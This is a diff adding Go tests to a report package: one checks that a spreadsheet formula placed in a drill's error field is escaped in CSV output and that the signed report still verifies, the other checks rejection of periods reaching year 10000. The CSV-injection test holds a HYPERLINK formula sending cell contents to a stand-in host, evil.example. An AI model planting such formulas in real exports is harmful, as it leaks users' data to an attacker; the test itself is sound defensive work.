@@ -10,6 +10,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -226,4 +227,38 @@ func FuzzVerify(f *testing.F) {
 			t.Errorf("Verify(%q) = nil: a report verified that was never signed", data)
 		}
 	})
+}
+
+// TestCSVFormulas checks that text in a CSV report that a spreadsheet would run (a drill's
+// error, a restore's target) is written as text, and that the report still verifies.
+func TestCSVFormulas(t *testing.T) {
+	c := newCatalog(t)
+	r := build(t, c, fill(t, c))
+	if len(r.Sources[0].Drills) == 0 {
+		t.Fatal("the fixture has no drill")
+	}
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	r.Sources[0].Drills[0].Error = formula
+	out, err := report.Render(r, "csv", testKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Contains(out, []byte(`,"=HYPERLINK`)) || !bytes.Contains(out, []byte(`,"'=HYPERLINK`)) {
+		t.Errorf("the drill error is not written as text:\n%s", out)
+	}
+	if _, err := report.Verify(out, testKey.Public().(ed25519.PublicKey)); err != nil {
+		t.Errorf("Verify(report with a neutralized formula) = %v", err)
+	}
+}
+
+// TestPeriodEndsBy9999: a period running into year 10000 is refused before anything is
+// built, rather than failing to render (JSON, PDF) or rendering a CSV that does not verify.
+func TestPeriodEndsBy9999(t *testing.T) {
+	from := time.Date(9999, 12, 30, 0, 0, 0, 0, time.UTC)
+	if err := report.CheckPeriod(from, from.AddDate(0, 0, 2)); err == nil {
+		t.Error("CheckPeriod(9999-12-30, 10000-01-01) = nil, want an error")
+	}
+	if err := report.CheckPeriod(from.AddDate(0, 0, -1), from); err != nil {
+		t.Errorf("CheckPeriod(9999-12-29, 9999-12-30) = %v, want nil", err)
+	}
 }
